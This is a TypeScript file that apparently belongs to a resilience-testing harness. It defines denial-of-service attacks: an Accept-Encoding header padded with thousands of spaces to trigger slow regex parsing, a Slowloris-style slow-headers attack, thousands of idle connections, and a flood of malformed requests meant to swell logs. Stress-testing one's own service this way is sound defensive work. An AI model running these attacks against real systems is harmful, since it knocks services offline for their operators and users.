import { Agent } from 'node:http'
import { setTimeout as pause } from 'node:timers/promises'
import { type Attack, createTally, holdLines, inParallel, tell } from '../attack'
import { fling, json } from '../send'
import { openLine, writeHead } from '../target'

/** A header that a careless expression reads for a quarter of a second. */
export const spacedEncodings: Attack = {
  name: 'H5 Accept-Encoding with 15,000 spaces',
  seconds: 10,
  run: async (target, isOver) => {
    const heard = createTally()
    const agent = new Agent({ keepAlive: true })
    const headers = [3_000, 15_000].map((spaces) => ({ 'Accept-Encoding': `a${' '.repeat(spaces)}b` }))
    let turn = 0
    await inParallel(4, isOver, async () => {
      turn += 1
      heard.add(await fling(target, { path: '/', headers: headers[turn % 2] ?? {}, agent }))
      await pause(20)
    })
    agent.destroy()
    return tell(heard.words())
  },
}

export const slowHeaders: Attack = {
  name: 'slow headers on 500 connections',
  seconds: 12,
  run: async (target, isOver) => {
    const { opened, held, letGo } = await holdLines({ lines: 500, perSecond: 150 }, isOver, () => {
      const socket = openLine(target)
      socket.resume()
      socket.write(writeHead(target, 'GET /').slice(0, -2))
      const trickle = setInterval(() => socket.write('X-A: b\r\n'), 1_000)
      socket.once('close', () => clearInterval(trickle))
      return socket
    })
    return tell(`${opened} connections, ${held} held at the end, ${letGo} let go`)
  },
}

export const idleLines: Attack = {
  name: '2,000 connections that say nothing',
  seconds: 12,
  run: async (target, isOver) => {
    const { opened, held } = await holdLines({ lines: 2_000, perSecond: 500 }, isOver, () => openLine(target).resume())
    return tell(`${opened} connections, ${held} held at the end`)
  },
}

/** Everything that might write a line. */
export const logFlood: Attack = {
  name: 'a flood of what the log may tell of',
  seconds: 10,
  bounds: { logMiB: 8 },
  run: async (target, isOver) => {
    const heard = createTally()
    const long = 'x'.repeat(3_000)
    let turn = 0
    const sendings = [
      () => fling(target, { path: `/${long}` }),
      () => fling(target, { method: 'POST', path: '/api/coupons/check', headers: json, body: '{' }),
      () => fling(target, { method: 'POST', path: `/api/${long}`, body: '' }),
      () => fling(target, { method: 'POST', path: '/api/coupons/check', headers: { 'Sec-Fetch-Site': 'cross-site' } }),
      () => fling(target, { method: 'POST', path: '/image/upload', headers: json, body: long }),
    ]
    await inParallel(4, isOver, async () => {
      turn += 1
      heard.add((await sendings[turn % sendings.length]?.()) ?? 0)
    })
    return tell(heard.words())
  },
}
